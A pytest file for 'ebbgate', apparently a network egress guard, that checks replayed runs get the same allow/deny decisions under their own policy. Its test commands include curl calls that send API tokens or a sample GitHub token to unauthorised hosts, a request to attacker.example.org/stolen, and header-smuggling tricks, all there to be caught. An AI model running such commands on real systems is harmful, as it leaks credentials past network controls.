"""Sealed runs, replayed: against its own policy a run's journal gives the very decisions that it took; against another, others."""

from __future__ import annotations

import json
import secrets
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from ebbgate.events.reading import read_run
from ebbgate.events.types import Exchange
from ebbgate.policy.load import load_policy
from ebbgate.policy.replay import replay
from tests.attacks.programs import python, raw_http, request, send_tcp
from tests.attacks.test_destinations import ATTACKS
from tests.secrets.samples import sample
from tests.world import World
from tests.world.internet import API, EVIL

POLICY = """
version: 1
allow:
  - { host: api.example.com, methods: [GET, POST], paths: [/, "/open/**"] }
  - { host: api.example.com, protocol: http, methods: [GET] }
  - { host: mirror.example.com, credentials: own }
  - { host: mirror.example.com, protocol: http, uninspectable: deny }
  - { host: files.example.net, tls: passthrough }
  - { host: db.example.com, port: 5432, protocol: tcp }
  - { host: internal.example.com, protocol: http, cidr: 10.0.0.0/8, query: [page=*, per_page=100] }
  - { host: db.example.com, only: { executables: [/**/curl] } }
  - { host: mixed.example.com, only: { executables: [/**/wget] } }
  - { host: metadata.example.com, protocol: http }
  - { host: localhost.example.com }
  - { host: "*.net.example.com" }
deny:
  - { host: telemetry.example.org }
secrets:
  API_TOKEN: { to: [api.example.com], in: ["header:x-token", "json:auth.token"] }
"""
REQUESTS = {
    "allowed": ["curl", "-sS", "https://api.example.com/open/a/b?c=d"],
    "allowed head": ["curl", "-sSI", "https://api.example.com/"],
    "denied path": ["curl", "-sS", "https://api.example.com/closed"],
    "ambiguous path": ["curl", "-sS", "--path-as-is", "https://api.example.com/open/../closed"],
    "denied method": ["curl", "-sS", "-X", "DELETE", "https://api.example.com/open/a"],
    "denied method in a header": ["curl", "-sS", "-d", "x", "-H", "X-HTTP-Method-Override: DELETE", "https://api.example.com/open/a"],
    "denied method in plain": ["curl", "-sS", "-d", "x", "http://api.example.com/"],
    "allowed host, other port": ["curl", "-sS", "https://api.example.com:8443/"],
    "host by rule of addresses": ["curl", "-sS", "http://internal.example.com/"],
    "name that leads inwards": ["curl", "-sS", "http://metadata.example.com/"],
    "name that leads to the machine": ["curl", "-sS", "https://localhost.example.com/"],
    "below a wildcard": ["curl", "-sS", f"https://{'a1b2c3d4e5f6' * 3}.net.example.com/"],
    "parameters that are listed": ["curl", "-sSG", "-d", "page=12345678901234567890abcdefABCDEF", "-d", "per_page=100", "http://internal.example.com/"],
    "by whom it may": ["curl", "-sS", "https://db.example.com/"],
    "by whom it may not": ["curl", "-sS", "https://mixed.example.com/"],
    "a parameter that is not": ["curl", "-sSG", "-d", "page=1", "-d", "q=data", "http://internal.example.com/"],
    "quietly denied": ["curl", "-sS", "https://telemetry.example.org/"],
    "a name alone": python("import socket\ntry: socket.getaddrinfo('questions.example.org', 443)\nexcept OSError: pass"),
    "a single label": python("import socket\ntry: socket.getaddrinfo('wpad', 80)\nexcept OSError: pass"),
    "passed through": ["curl", "-sSk", "https://files.example.net/"],
    "opaque, allowed": send_tcp("db.example.com", 5432, "select"),
    "opaque, to an allowed host": send_tcp("api.example.com", 5432, "select"),
    "the guard's certificate refused": ["curl", "-sS", "--cacert", "/dev/null", "https://api.example.com/"],
    "not HTTP inside TLS": raw_http(API, 443, "\x00\x01\x02 binary", tls="api.example.com"),
    "a foreign credential": ["sh", "-c", 'curl -sS -H "X-Key: $BROUGHT_ALONG" https://mirror.example.com/'],
    "another host inside": raw_http(API, 443, request("mirror.example.com"), tls="api.example.com"),
    "a body that cannot be read": [
        "curl", "-sS", "-H", "Content-Encoding: unheard-of", "-d", "x", "http://mirror.example.com/",
    ],
    "two hosts": raw_http(API, 443, "GET / HTTP/1.1\r\nHost: a.example.com\r\nHost: b.example.com\r\n\r\n", tls="api.example.com"),
    "a secret at home": ["sh", "-c", 'curl -sS -H "X-Token: $API_TOKEN" https://api.example.com/'],
    "a secret in a field": [
        "sh", "-c", 'curl -sS --json "{\\"auth\\": {\\"token\\": \\"$API_TOKEN\\"}}" https://api.example.com/',
    ],
    "a secret in another field": ["sh", "-c", 'curl -sS --json "{\\"token\\": \\"$API_TOKEN\\"}" https://api.example.com/'],
    "a secret elsewhere": ["sh", "-c", 'curl -sS -H "X-Token: $API_TOKEN" https://mirror.example.com/'],
    "another secret": ["sh", "-c", 'curl -sS -d "$OTHER_TOKEN" https://api.example.com/'],
    "an absolute form": raw_http(API, 80, request("api.example.com", path="http://attacker.example.org/stolen")),
}  # fmt: skip
# Each is seen in the runs below, or they would show nothing.
REASONS = {
    "rule", "no-rule", "explicit-deny", "local", "port", "method", "path", "address-mismatch", "host-mismatch", "special-address",
    "not-carried", "foreign-credential", "uninspectable", "malformed", "protocol", "query", "only",
}  # fmt: skip


def together(commands: dict[str, list[str]]) -> list[str]:
    """All at once: most of their time is waiting for answers that do not come."""
    lines = [f"(sleep 0.{number % 10}; {shlex.join(one)}) >/dev/null 2>&1 &" for number, one in enumerate(commands.values())]
    return ["sh", "-c", "\n".join([*lines, "wait"])]


@pytest.fixture(scope="module")
def policy_file(tmp_path_factory) -> Path:
    file = tmp_path_factory.mktemp("policy") / "ci.yml"
    file.write_text(POLICY)
    return file


def recorded(world: World, policy_file: Path, mode: str, secret: str, commands: dict[str, list[str]]):
    options = ["--policy", str(policy_file), "--mode", mode, "--secret", "API_TOKEN", "--secret", "OTHER_TOKEN"]
    env = {"API_TOKEN": secret, "OTHER_TOKEN": f"key-{secrets.token_hex(20)}", "BROUGHT_ALONG": sample("github-pat-classic")}
    outcome = world.guard.run([*options, "--on-exfiltration", "fail"], together(commands), env=env, timeout=180)
    return outcome, read_run(outcome.directory)


@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_against_its_own_policy_a_run_is_judged_as_it_was(world: World, policy_file: Path, mode: str, secret: str) -> None:
    outcome, run = recorded(world, policy_file, mode, secret, {**REQUESTS, **ATTACKS})
    replayed = list(replay(load_policy([policy_file]), run))
    assert replayed, outcome.stderr
    for one in replayed:
        assert one.after.decision == one.before.decision, one.before
        assert getattr(one.after, "findings", ()) == getattr(one.before, "findings", ()), one.before
        assert one.is_denied == one.was_denied
    like_it = replay(
        load_policy([policy_file], deny=["elsewhere.example.net"]), run
    )  # the same bindings, known from the text alone
    assert [one.after.decision for one in like_it] == [one.before.decision for one in replayed]
    like_it = replay(load_policy([policy_file], deny=["elsewhere.example.net"]), run)
    assert [getattr(one.after, "findings", ()) for one in like_it] == [getattr(one.before, "findings", ()) for one in replayed]
    assert {one.before.decision.reason for one in replayed} >= REASONS
    findings = [(f.secret, f.permitted) for one in replayed if isinstance(one.before, Exchange) for f in one.before.findings]
    assert {("API_TOKEN", True), ("API_TOKEN", False), ("OTHER_TOKEN", False)} <= set(findings)


def test_another_policy_judges_otherwise(world: World, policy_file: Path, tmp_path: Path, secret: str) -> None:
    commands = {
        name: REQUESTS[name] for name in ("allowed", "denied path", "quietly denied", "a secret at home", "opaque, allowed")
    }
    outcome, _run = recorded(world, policy_file, "enforce", secret, {**commands, "evil": ATTACKS["denied host over https"]})

    def told(text: str, *options: str) -> tuple[int, list[dict]]:
        file = tmp_path / "other.yml"
        file.write_text(f"version: 1\n{text}")
        command = [sys.executable, "-m", "ebbgate", "replay", str(outcome.directory), "--policy", str(file), "--json", *options]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        return done.returncode, json.loads(done.stdout)["lines"]

    code, lines = told("allow: [api.example.com]\n")
    assert code == 91  # the kind of the secret is unknown, so that nothing but the policy can say where it belongs
    changed = {
        (one["destination"], one["method"], one["path"], one["denied"])
        for one in lines
        if one["denied"] != (one["was"] == "denied")
    }
    assert ("tls://api.example.com:443", "GET", "/closed", False) in changed
    assert ("tcp://db.example.com:5432", "", "", True) in changed
    assert ("dns:telemetry.example.org", "", "", True) not in changed
    everything = "allow: [api.example.com, attacker.example.org, telemetry.example.org, 'tcp://db.example.com:5432']\n"
    code, lines = told(everything + "secrets: { API_TOKEN: { to: [api.example.com], in: ['header:x-token'] } }\n")
    assert (code, [one for one in lines if one["denied"]]) == (0, [])
    code, lines = told(everything + "secrets: { API_TOKEN: { to: [api.example.com] } }\n")
    assert code == 91
    assert [one["why"] for one in lines if one["denied"]] == ["secret API_TOKEN"]
    step = next(one for one in lines if one["destination"] == "tls://attacker.example.org:443")
    assert (step["executable"], step["was"], EVIL in step["destination"]) == ("curl", "denied", False)
